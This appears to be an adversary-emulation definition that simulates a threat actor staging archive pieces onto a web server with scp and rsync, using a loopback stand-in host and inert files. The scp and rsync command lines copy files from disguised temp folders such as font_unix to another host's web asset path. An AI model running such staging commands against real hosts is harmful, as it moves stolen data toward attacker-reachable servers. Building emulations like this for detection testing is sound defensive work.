behaviour "remote_stage_copy" {
  attack    = ["T1074.002", "T1021.004"]
  actors    = ["emissary_panda"]
  platform  = linux
  hosts     = ["billing"]
  phase     = staging
  summary   = "stand-ins of scp and rsync are called as if they moved pieces of an archive to the web server; a folder below /net stands for that host, and nothing is connected"
  footprint = "scp with ssh below it, and rsync, started from the mediation account's shell; copies below /net, written by the receiving end"
  undo      = "remove the copies and what stands for the other host"
  source    = "ATT&CK v18.1 G0027 T1074.002 (archives moved to internet-facing servers that held a web shell, on Windows); Linux tools by analogy"

  argument "tool" {
    doc     = "what copies"
    one_of  = ["scp", "rsync", "both"]
    default = "both"
  }

  argument "folder" {
    doc     = "where the pieces lie"
    one_of  = ["font_unix", "ice_cache", "pulse_shm", "plain", "user_cache"]
    default = "font_unix"
  }

  locals {
    # The web server's end: an address of the lab's loopback, and the folder that stands
    # for its disk.
    other  = "deploy@127.0.10.3"
    disk   = "/net/127.0.10.3"
    target = "${local.portal}assets/img/"
    folder = local.staging_folders[arg.folder]
    moved  = { scp = ["p.00"], rsync = ["p.01"], both = ["p.00", "p.01"] }[arg.tool]
  }

  # The host has the pieces, as a step before would have left them.
  given {
    for_each = local.moved
    path     = "${local.folder}/${each.value}"
    content  = inert_comment("a piece without records: ${each.value}")
  }

  process "login" {
    extends = template.login_shell
    user    = host.accounts.service
    folder  = local.homes[host.accounts.service]
    process "scp" {
      when    = arg.tool != "rsync"
      image   = "/usr/bin/scp"
      command = "scp -q -o BatchMode=yes ${local.folder}/p.00 ${local.other}:${local.target}"
      process "ssh" {
        image   = "/usr/bin/ssh"
        command = "ssh -x -oPermitLocalCommand=no -oClearAllForwardings=yes -o BatchMode=yes -l deploy -s -- 127.0.10.3 sftp"
      }
    }
    process "rsync" {
      when    = arg.tool != "scp"
      image   = "/usr/bin/rsync"
      command = "rsync -a --partial -e ssh ${local.folder}/p.01 ${local.other}:${local.target}"
    }
  }

  process "receiver" {
    image    = "/usr/sbin/sshd"
    command  = "sshd: deploy@notty"
    user     = "root"
    folder   = "/"
    resident = true
    copy {
      for_each = local.moved
      from     = "${local.folder}/${each.value}"
      to       = "${local.disk}${local.target}${each.value}"
    }
  }
}
